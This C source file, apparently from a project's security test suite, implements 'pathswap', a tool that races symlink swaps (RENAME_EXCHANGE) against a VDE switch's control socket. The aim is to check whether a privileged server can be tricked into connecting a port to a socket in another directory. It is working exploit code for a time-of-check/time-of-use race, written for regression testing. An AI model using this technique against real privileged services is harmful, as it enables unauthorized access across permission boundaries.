/*
 * pathswap — an attack tool for tests/security (SECURITY.md V7): plug into a vde endpoint naming a
 * client socket BASE/x/s while a thread swaps BASE/x (a directory of ours holding our socket s) with a
 * symlink to ROOTDIR (RENAME_EXCHANGE, in a loop). A server that checks the path and then connects
 * by name with more rights than ours may end up connected to ROOTDIR/s. A second, ordinary port of
 * ours sends a broadcast after each plug, so that such a port carries frames to ROOTDIR/s.
 *
 *   pathswap [-t SECS] [-n TRIES] DIR BASE ROOTDIR
 *
 * DIR is the endpoint directory (DIR/ctl); BASE is made here (mode 0755). Stops after TRIES plugs or
 * SECS seconds (defaults 2000, 5): a bound on the attack, not a performance threshold. A port whose
 * frames do not reach our own s is kept plugged (it is connected elsewhere) and gets 20 more
 * broadcasts, then we stop. Exit 0 (whatever happened: the caller checks ROOTDIR/s's listener),
 * 3: the ordinary port could not plug (the test setup is wrong), 1: usage.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define SUN_LEN_WIRE 110

static const char *dir;
static char xpath[200], ypath[200];
static atomic_int stop;
static unsigned long swaps;

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop))
		if (renameat2(AT_FDCWD, xpath, AT_FDCWD, ypath, RENAME_EXCHANGE) == 0)
			swaps++;
	return NULL;
}

/* Send a v3 request naming mine; on an answer return the ctl fd (the port lives while it is open)
 * and put the server's socket in *theirs; -1 when refused. */
static int plug(const char *mine, struct sockaddr_un *theirs)
{
	struct sockaddr_un ctl = { .sun_family = AF_UNIX };
	uint8_t req[12 + SUN_LEN_WIRE + 9] = { 0 }, rep[SUN_LEN_WIRE];
	uint32_t w[3] = { 0xfeedfaceu, 3, 0 };	/* magic, version, "new port, any" (little-endian host) */
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ssize_t n;

	if (fd < 0)
		return -1;
	snprintf(ctl.sun_path, sizeof(ctl.sun_path), "%s/ctl", dir);
	memcpy(req, w, sizeof(w));
	req[12] = AF_UNIX;
	snprintf((char *)req + 14, 108, "%s", mine);
	memcpy(req + 12 + SUN_LEN_WIRE, "pathswap", 8);
	if (connect(fd, (struct sockaddr *)&ctl, sizeof(ctl)) < 0 || send(fd, req, sizeof(req), 0) != sizeof(req) ||
	    (n = recv(fd, rep, sizeof(rep), 0)) < 3) {
		close(fd);
		return -1;
	}
	memset(theirs, 0, sizeof(*theirs));
	theirs->sun_family = AF_UNIX;
	memcpy(theirs->sun_path, rep + 2, (size_t)n - 2 < sizeof(theirs->sun_path) ? (size_t)n - 2 : sizeof(theirs->sun_path) - 1);
	return fd;
}

static int bind_dgram(const char *path)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", path);
	unlink(path);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sun, sizeof(sun)) < 0 || chmod(path, 0666) < 0) {
		fprintf(stderr, "pathswap: cannot bind %s: %s\n", path, strerror(errno));
		exit(3);
	}
	return fd;
}

/* Drain fd; with wait_ms, wait that long for one frame. Returns how many frames were read. */
static int drain(int fd, int wait_ms)
{
	char buf[2048];
	struct pollfd p = { .fd = fd, .events = POLLIN };
	int n = 0;

	while (poll(&p, 1, n == 0 ? wait_ms : 0) > 0 && recv(fd, buf, sizeof(buf), MSG_DONTWAIT) > 0)
		n++;
	return n;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	static const uint8_t frame[60] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x02, 0, 0, 0, 0x24, 0x72, 0x88, 0xb5,
					   'V', '7', ' ', 'p', 'a', 't', 'h', ' ', 's', 'w', 'a', 'p' };
	struct sockaddr_un vded_h, vded_r;
	char spath[220], hpath[220];
	const char *base, *rootdir;
	double secs = 5, t0;
	long tries = 2000, i, answered = 0, kept = 0;
	int opt, hfd, sfd, hctl, ctl;
	pthread_t th;

	while ((opt = getopt(argc, argv, "t:n:")) != -1) {
		if (opt == 't')
			secs = atof(optarg);
		else if (opt == 'n')
			tries = atol(optarg);
		else
			return 1;
	}
	if (argc - optind != 3) {
		fprintf(stderr, "usage: pathswap [-t SECS] [-n TRIES] DIR BASE ROOTDIR\n");
		return 1;
	}
	dir = argv[optind];
	base = argv[optind + 1];
	rootdir = argv[optind + 2];
	snprintf(xpath, sizeof(xpath), "%s/x", base);
	snprintf(ypath, sizeof(ypath), "%s/y", base);
	snprintf(spath, sizeof(spath), "%s/s", xpath);
	snprintf(hpath, sizeof(hpath), "%s/h", base);
	/* chmod too: an inherited default ACL may leave a new directory without x for its owner */
	if ((mkdir(base, 0755) < 0 && errno != EEXIST) || chmod(base, 0755) < 0 ||
	    (mkdir(xpath, 0755) < 0 && errno != EEXIST) || chmod(xpath, 0755) < 0 || symlink(rootdir, ypath) < 0) {
		fprintf(stderr, "pathswap: cannot set up %s: %s\n", base, strerror(errno));
		return 3;
	}
	sfd = bind_dgram(spath);
	hfd = bind_dgram(hpath);
	hctl = plug(hpath, &vded_h);
	if (hctl < 0 || connect(hfd, (struct sockaddr *)&vded_h, sizeof(vded_h)) < 0) {
		fprintf(stderr, "pathswap: the ordinary port could not plug into %s/ctl\n", dir);
		return 3;
	}
	printf("ordinary port: %s; racing on %s\n", vded_h.sun_path, spath);
	if (pthread_create(&th, NULL, swapper, NULL) != 0)
		return 3;
	t0 = now();
	for (i = 0; i < tries && now() - t0 < secs; i++) {
		drain(sfd, 0);
		ctl = plug(spath, &vded_r);
		if (ctl < 0)
			continue;
		answered++;
		(void)!send(hfd, frame, sizeof(frame), MSG_DONTWAIT);
		if (drain(sfd, 50) > 0) {
			close(ctl);	/* connected to our own socket: nothing won, unplug */
			continue;
		}
		printf("plug %ld: port %s does not reach our own socket: keeping it\n", i + 1, vded_r.sun_path);
		kept = 1;
		for (int k = 0; k < 20; k++) {
			(void)!send(hfd, frame, sizeof(frame), MSG_DONTWAIT);
			usleep(2000);
		}
		close(ctl);
		i++;
		break;
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	printf("%ld plugs (%ld answered), %lu swaps in %.1f s, %s\n", i, answered, swaps, now() - t0,
	       kept ? "a port reached something else" : "every answered port reached our own socket");
	close(hctl);
	unlink(spath);
	unlink(hpath);
	return 0;
}
